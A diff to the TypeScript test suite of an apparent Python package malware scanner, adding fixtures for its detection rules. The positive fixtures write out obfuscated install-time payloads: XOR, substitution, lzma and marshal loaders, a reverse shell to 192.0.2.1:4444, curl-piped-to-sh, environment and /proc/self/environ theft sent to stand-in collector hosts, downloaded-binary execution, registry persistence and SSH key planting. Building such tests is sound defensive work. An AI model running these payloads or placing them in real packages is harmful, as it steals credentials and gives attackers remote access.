@@ -4,6 +4,22 @@ import { PYTHON_RULE_METAS } from '../../src/analyzers/python/index.js';
 import { findingsOf, makeWheel, rulesOf, scanDist, scanSdist } from './helpers.js';
 
 const b64 = (s: string) => Buffer.from(s).toString('base64');
+const XOR_KEY = '4915';
+/** `lzma.compress(b"import os\\nos.system('curl -s http://192.0.2.1/x | sh')\\n")` (an .xz stream). */
+const LZMA_HEX =
+  'fd377a585a000004e6d6b4460200210116000000742fe5a3010036696d706f7274206f730a6f732e73797374656d28276375726c202d7320687474703a2f2f3139322e302e322e312f78207c20736827290a00007a1d112da4a1aaf700014f37ee43daef1fb6f37d010000000004595a';
+/** `marshal.dumps(compile("import urllib.request\\nurllib.request.urlopen('http://192.0.2.1/beacon')", ...))` (CPython 3.11). */
+const MARSHAL_HEX =
+  '630000000000000000000000000300000000000000f3420000009700640064016c005a0165016a020000000000000000a00300000000000000000000000000000000000000006402a6010000ab0100000000000000000100640153002903e9000000004e7a17687474703a2f2f3139322e302e322e312f626561636f6e2904da0e75726c6c69622e72657175657374da0675726c6c6962da0772657175657374da0775726c6f70656ea900f300000000fa033c783efa083c6d6f64756c653e720900000001000000732e000000f003010101d80015d00015d00015d00015d80006840ed70016d20016d01730d10031d40031d00031d00031d000317207000000';
+/** XOR of each character with a repeating key (what XOR-loop loaders undo). */
+const xor = (s: string, key: string) =>
+  [...s].map((c, i) => String.fromCharCode(c.charCodeAt(0) ^ key.charCodeAt(i % key.length))).join('');
+/** The reversed-alphabet substitution (`ascii_letters[::-1]`) used by some droppers. */
+const subst = (s: string) => {
+  const a = 'abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ';
+  const r = [...a].reverse().join('');
+  return [...s].map((c) => (a.includes(c) ? r[a.indexOf(c)] : c)).join('');
+};
 const SETUP = 'from setuptools import setup\nsetup(name="fixture-py", version="1.0.0")\n';
 
 interface Case {
@@ -35,6 +51,32 @@ const CASES: Case[] = [
       'setup.py': `import zlib, base64\n_ = lambda __: __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]))\nexec((_)(b'${[...deflateSync(Buffer.from("print('x')")).toString('base64')].reverse().join('')}'))\n${SETUP}`,
     },
     negative: { 'setup.py': `exec(open('fixture_py/_version.py').read())\n${SETUP}` },
+  },
+  {
+    // lzma.compress output (.xz) is decoded statically and analysed as code
+    rule: 'PY-001',
+    positive: { 'setup.py': `import lzma\nexec(lzma.decompress(bytes.fromhex('${LZMA_HEX}')))\n${SETUP}` },
+    negative: { 'setup.py': `import lzma\nprint(lzma.decompress(bytes.fromhex('${LZMA_HEX}')))\n${SETUP}` },
+    check: (r) => {
+      expect(String(findingsOf(r, 'PY-001')[0]?.evidence?.decoded)).toContain('os.system');
+      expect(findingsOf(r, 'PY-004').some((x) => x.evidence?.decodedDepth === 1)).toBe(true);
+    },
+  },
+  {
+    // exec(marshal.loads(...)): never run; the code object's strings are read as data
+    rule: 'PY-001',
+    positive: {
+      'setup.py': `import marshal\nexec(marshal.loads(bytes.fromhex('${MARSHAL_HEX}')))\n${SETUP}`,
+    },
+    negative: {
+      'setup.py': `import marshal\nc = marshal.loads(bytes.fromhex('${MARSHAL_HEX}'))\nprint(c)\n${SETUP}`,
+    },
+    check: (r) => {
+      const f = findingsOf(r, 'PY-001')[0]!;
+      expect(f.evidence?.marshal).toBe(true);
+      expect(f.evidence?.strings).toContain('urlopen');
+      expect(findingsOf(r, 'NET-001').some((x) => String(x.message).includes('192.0.2.1'))).toBe(true);
+    },
   },
   {
     rule: 'PY-002',
@@ -74,6 +116,84 @@ const CASES: Case[] = [
       'setup.py': `import base64, subprocess\nwith open('/tmp/a.py', 'w') as f:\n    f.write(base64.b64decode('${b64('import socket\n')}').decode())\nsubprocess.Popen(['python3', '/tmp/a.py'])\n${SETUP}`,
     },
     negative: { 'setup.py': `with open('/tmp/a.txt', 'w') as f:\n    f.write('hello')\n${SETUP}` },
+  },
+  {
+    // a character-level XOR loop (pywool-style loaders): the loop is run on folded values
+    rule: 'PY-001',
+    positive: {
+      'setup.py': `k = '${XOR_KEY}'\ns = ${JSON.stringify(xor("import os\nos.system('id')\n", XOR_KEY))}\nout = ''\nfor i in range(len(s)):\n    c = s[i]\n    out += chr(ord(c) ^ ord(k[i % len(k)]))\nexec(compile(out, '<string>', 'exec'))\n${SETUP}`,
+    },
+    negative: {
+      'setup.py': `k = '${XOR_KEY}'\ns = 'abc'\nout = ''\nfor i in range(len(s)):\n    out += chr(ord(s[i]) ^ ord(k[i % len(k)]))\nprint(out)\n${SETUP}`,
+    },
+    check: (r) => {
+      expect(
+        findingsOf(r, 'PY-001').some((f) => String(f.evidence?.decoded).includes("os.system('id')")),
+      ).toBe(true);
+      expect(r.verdict).toBe('malicious');
+    },
+  },
+  {
+    // a substitution cipher in a comprehension, decoded and analysed as code
+    rule: 'PY-010',
+    positive: {
+      'fixture_py/__init__.py': `import string\na = string.ascii_letters\nr = a[::-1]\nexec("".join([r[a.index(c)] if c in r else c for c in ${JSON.stringify(subst("import socket,os,pty;s=socket.socket();s.connect(('192.0.2.1',4444));os.dup2(s.fileno(),0);pty.spawn('/bin/sh')"))}]))\n`,
+    },
+    negative: {
+      'fixture_py/__init__.py': `import string\na = string.ascii_letters\nr = a[::-1]\nprint("".join([r[a.index(c)] if c in r else c for c in "hello"]))\n`,
+    },
+  },
+  {
+    // `with NamedTemporaryFile(...) as tmp`, `path = tmp.name`, then run
+    rule: 'PY-005',
+    positive: {
+      'setup.py': `import requests, tempfile, subprocess\nresponse = requests.get('https://example.invalid/w.bin')\nwith tempfile.NamedTemporaryFile(delete=False) as tmp_file:\n    tmp_file.write(response.content)\n    exe_path = tmp_file.name\nsubprocess.call([exe_path])\n${SETUP}`,
+    },
+    negative: {
+      'setup.py': `import requests, tempfile, subprocess\nresponse = requests.get('https://example.invalid/w.json')\nwith tempfile.NamedTemporaryFile(delete=False) as tmp_file:\n    tmp_file.write(response.content)\nsubprocess.call(['make'])\n${SETUP}`,
+    },
+  },
+  {
+    // the file is run by its base name after `cd`, and made executable first
+    rule: 'PY-005',
+    positive: {
+      'setup.py': `import requests\nfrom os import system\nopen('/tmp/agent', 'wb').write(requests.get('https://example.invalid/a').content)\nsystem('cd /tmp && chmod +x agent && ./agent')\n${SETUP}`,
+    },
+    negative: {
+      'setup.py': `import requests\nfrom os import system\nopen('/tmp/agent', 'wb').write(requests.get('https://example.invalid/a').content)\nsystem('make install')\n${SETUP}`,
+    },
+  },
+  {
+    // the output of recon commands sent at install time
+    rule: 'PY-008',
+    positive: {
+      'setup.py': `import os, urllib.request\nuser = os.popen('whoami').read()\nhost = os.popen('hostname').read()\nurllib.request.urlopen('https://collector.example.invalid/?' + user + host)\n${SETUP}`,
+    },
+    negative: {
+      'setup.py': `import os, urllib.request\nrev = os.popen('git rev-parse HEAD').read()\nurllib.request.urlopen('https://example.invalid/?' + rev)\n${SETUP}`,
+    },
+  },
+  {
+    // environment collected into a dict and sent with curl run as a process
+    rule: 'PY-008',
+    positive: {
+      'setup.py': `import os, base64, subprocess\nenvirons = {}\nfor name, value in os.environ.items():\n    environs[name] = value\ndata = base64.b64encode(str(environs).encode()).decode()\nsubprocess.check_output(['curl', f'https://collector.example.invalid/?e={data}'])\n${SETUP}`,
+    },
+    negative: {
+      'setup.py': `import subprocess\nsubprocess.check_output(['curl', '-fsSL', 'https://example.invalid/dep.tar.gz', '-o', 'dep.tar.gz'])\n${SETUP}`,
+    },
+  },
+  {
+    // an instance attribute carries /proc/self/environ to the request
+    rule: 'PY-008',
+    positive: {
+      'fixture_py/__init__.py':
+        "import urllib.request\nclass Hook:\n    def __init__(self):\n        self.e = open('/proc/self/environ').read()\n    def send(self):\n        urllib.request.urlopen('https://collector.example.invalid/', data=self.e.encode())\nHook().send()\n",
+    },
+    negative: {
+      'fixture_py/__init__.py':
+        'import socket\ndef local_ip():\n    return socket.gethostbyname(socket.gethostname())\n',
+    },
   },
   {
     rule: 'PY-006',
@@ -139,6 +259,26 @@ const CASES: Case[] = [
         "import winreg\nk = winreg.OpenKey(winreg.HKEY_CURRENT_USER, 'Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run', 0, winreg.KEY_SET_VALUE)\nwinreg.SetValueEx(k, 'upd', 0, winreg.REG_SZ, 'C:\\\\u.exe')\n",
     },
     negative: { 'fixture_py/__init__.py': "SHELLS = ['.bashrc', '.zshrc']\n" },
+  },
+  {
+    // an executable carried as a bytes literal, written out and made executable
+    rule: 'PY-005',
+    positive: {
+      'setup.py': `import os\nwith open('/tmp/.cache/upd', 'wb') as f:\n    f.write(b'\\x7fELF\\x02\\x01\\x01\\x00\\x00\\x00')\nos.chmod('/tmp/.cache/upd', 0o755)\n${SETUP}`,
+    },
+    negative: {
+      'setup.py': `with open('build/data.bin', 'wb') as f:\n    f.write(b'\\x00\\x01\\x02\\x03')\n${SETUP}`,
+    },
+  },
+  {
+    // planting an SSH key
+    rule: 'PY-011',
+    positive: {
+      'setup.py': `with open('/root/.ssh/authorized_keys', 'a+') as f:\n    f.write('ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFixture fixture')\n${SETUP}`,
+    },
+    negative: {
+      'setup.py': `import os\nwith open(os.path.expanduser('~/.ssh/authorized_keys')) as f:\n    print(len(f.read()))\n${SETUP}`,
+    },
   },
   {
     rule: 'PY-012',
@@ -262,6 +402,20 @@ describe('Python rules (positive and negative)', () => {
     expect(rulesOf(await scanDist(missing, 'fixture-py-1.0.0.tar.gz'))).toContain('PY-019');
     const fine = await makeSdist({ 'setup.py': SETUP }, 'fixture-py', '1.0.0');
     expect(rulesOf(await scanDist(fine, 'fixture-py-1.0.0.tar.gz'))).not.toContain('PY-019');
+    // declared vs shipped: a console script whose module the wheel does not contain
+    const ep = '[console_scripts]\nfixture = fixture_py.cli:main\n';
+    const empty = makeWheel({}, 'fixture_py', '1.0.0', { entryPoints: ep });
+    const emptyReport = await scanDist(empty, 'fixture_py-1.0.0-py3-none-any.whl');
+    expect(findingsOf(emptyReport, 'PY-019')[0]?.evidence?.missingEntryPoints).toEqual([
+      'fixture = fixture_py.cli',
+    ]);
+    const shipped = makeWheel(
+      { 'fixture_py/__init__.py': '', 'fixture_py/cli.py': 'def main():\n    pass\n' },
+      'fixture_py',
+      '1.0.0',
+      { entryPoints: ep },
+    );
+    expect(rulesOf(await scanDist(shipped, 'fixture_py-1.0.0-py3-none-any.whl'))).not.toContain('PY-019');
   });
 
   it('PY-021: in-tree build backends run at install', async () => {
